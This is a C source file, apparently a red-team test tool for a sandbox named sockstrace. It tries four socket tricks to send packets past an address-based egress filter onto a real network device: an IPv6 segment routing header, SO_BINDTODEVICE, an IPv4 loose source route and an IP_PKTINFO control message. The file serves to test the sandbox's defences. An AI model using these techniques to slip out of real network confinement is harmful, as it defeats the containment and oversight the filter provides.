/*
 * attack_egress: socket options and control messages that move a packet away
 * from the address the syscall layer judged (sockstrace red-team tests).
 * Every attack aims an allowed address (the proxy, an --allow'd loopback
 * address) and makes the packet leave on a real device instead.
 *
 *   attack_egress srh6 FAR6 HOST6 PORT     TCP connect to [HOST6]:PORT with an
 *                                          IPV6_RTHDR segment routing header
 *                                          (type 4) whose first segment is FAR6
 *   attack_egress bindtodevice IF HOST4 PORT
 *                                          UDP socket bound to device IF
 *                                          (SO_BINDTODEVICE), sendto HOST4:PORT
 *   attack_egress lsrr FAR4 HOST4 PORT     UDP with IP_OPTIONS loose source
 *                                          route via FAR4, sendto HOST4:PORT
 *   attack_egress pktinfo IF HOST4 PORT    UDP sendmsg to HOST4:PORT with an
 *                                          IP_PKTINFO control message naming
 *                                          device IF's index
 *
 * Prints "OP: ok" or "OP: errno=N (message)" for each step; exit status 0
 * (what reached the network is the test's to find out), 2 on usage errors.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>


static void say(const char *op, int rc) {
    if (rc < 0)
        printf("%s: errno=%d (%s)\n", op, errno, strerror(errno));
    else
        printf("%s: ok\n", op);
    fflush(stdout);
}

static void usage(void) {
    fprintf(stderr, "usage: attack_egress srh6 FAR6 HOST6 PORT | bindtodevice IF HOST4 PORT |"
                    " lsrr FAR4 HOST4 PORT | pktinfo IF HOST4 PORT\n");
    exit(2);
}

static struct sockaddr_in v4(const char *host, const char *port) {
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((unsigned short)atoi(port));
    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
        usage();
    return sin;
}

static const char payload[] = "attack-egress\n";

/* Segment routing header (RFC 8754) with two segments: segments[0] is the
 * final destination (the kernel writes the connect address there) and
 * segments[1] the first one visited (segments_left = 1). */
struct srh2 {
    unsigned char nexthdr, hdrlen, type, segments_left, last_entry, flags;
    unsigned short tag;
    struct in6_addr segments[2];
};

static void srh6(const char *far, const char *host, const char *port) {
    struct srh2 srh;
    memset(&srh, 0, sizeof(srh));
    srh.hdrlen = 4; /* 2 segments of 16 bytes, in 8-byte units */
    srh.type = 4;
    srh.segments_left = 1;
    srh.last_entry = 1;
    if (inet_pton(AF_INET6, far, &srh.segments[1]) != 1 || inet_pton(AF_INET6, host, &srh.segments[0]) != 1)
        usage();
    struct sockaddr_in6 sin6;
    memset(&sin6, 0, sizeof(sin6));
    sin6.sin6_family = AF_INET6;
    sin6.sin6_port = htons((unsigned short)atoi(port));
    sin6.sin6_addr = srh.segments[0];
    int fd = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
    say("socket", fd);
    if (fd < 0)
        return;
    say("setsockopt IPV6_RTHDR", setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &srh, sizeof(srh)));
    int rc = connect(fd, (struct sockaddr *)&sin6, sizeof(sin6));
    if (rc < 0 && errno == EINPROGRESS) {
        /* Long enough for the SYN and its first retransmission. */
        struct pollfd p = {.fd = fd, .events = POLLOUT};
        rc = poll(&p, 1, 1500);
        int err = 0;
        socklen_t len = sizeof(err);
        getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (rc == 0) {
            errno = ETIMEDOUT;
            rc = -1;
        } else if (err != 0) {
            errno = err;
            rc = -1;
        } else {
            rc = 0;
        }
    }
    say("connect", rc);
    close(fd);
}

static void bindtodevice(const char *ifname, const char *host, const char *port) {
    struct sockaddr_in sin = v4(host, port);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    say("socket", fd);
    if (fd < 0)
        return;
    say("setsockopt SO_BINDTODEVICE",
        setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, ifname, (socklen_t)strlen(ifname) + 1));
    for (int i = 0; i < 3; i++)
        say("sendto", (int)sendto(fd, payload, sizeof(payload) - 1, 0, (struct sockaddr *)&sin, sizeof(sin)));
    close(fd);
}

static void lsrr(const char *far, const char *host, const char *port) {
    struct sockaddr_in sin = v4(host, port);
    struct in_addr hop;
    if (inet_pton(AF_INET, far, &hop) != 1)
        usage();
    /* NOP, then LSRR: type, length 7, pointer 4, one address. */
    unsigned char opts[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4};
    memcpy(&opts[4], &hop, 4);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    say("socket", fd);
    if (fd < 0)
        return;
    say("setsockopt IP_OPTIONS", setsockopt(fd, IPPROTO_IP, IP_OPTIONS, opts, sizeof(opts)));
    for (int i = 0; i < 3; i++)
        say("sendto", (int)sendto(fd, payload, sizeof(payload) - 1, 0, (struct sockaddr *)&sin, sizeof(sin)));
    close(fd);
}

static void pktinfo(const char *ifname, const char *host, const char *port) {
    struct sockaddr_in sin = v4(host, port);
    unsigned int ifindex = if_nametoindex(ifname);
    if (ifindex == 0) {
        say("if_nametoindex", -1);
        return;
    }
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    say("socket", fd);
    if (fd < 0)
        return;
    for (int i = 0; i < 3; i++) {
        union {
            char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
            struct cmsghdr align;
        } control;
        memset(&control, 0, sizeof(control));
        struct iovec iov = {.iov_base = (void *)payload, .iov_len = sizeof(payload) - 1};
        struct msghdr msg = {
            .msg_name = &sin,
            .msg_namelen = sizeof(sin),
            .msg_iov = &iov,
            .msg_iovlen = 1,
            .msg_control = control.buf,
            .msg_controllen = sizeof(control.buf),
        };
        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
        c->cmsg_level = IPPROTO_IP;
        c->cmsg_type = IP_PKTINFO;
        c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
        struct in_pktinfo info;
        memset(&info, 0, sizeof(info));
        info.ipi_ifindex = (int)ifindex;
        memcpy(CMSG_DATA(c), &info, sizeof(info));
        say("sendmsg", (int)sendmsg(fd, &msg, 0));
    }
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 5)
        usage();
    if (strcmp(argv[1], "srh6") == 0)
        srh6(argv[2], argv[3], argv[4]);
    else if (strcmp(argv[1], "bindtodevice") == 0)
        bindtodevice(argv[2], argv[3], argv[4]);
    else if (strcmp(argv[1], "lsrr") == 0)
        lsrr(argv[2], argv[3], argv[4]);
    else if (strcmp(argv[1], "pktinfo") == 0)
        pktinfo(argv[2], argv[3], argv[4]);
    else
        usage();
    return 0;
}
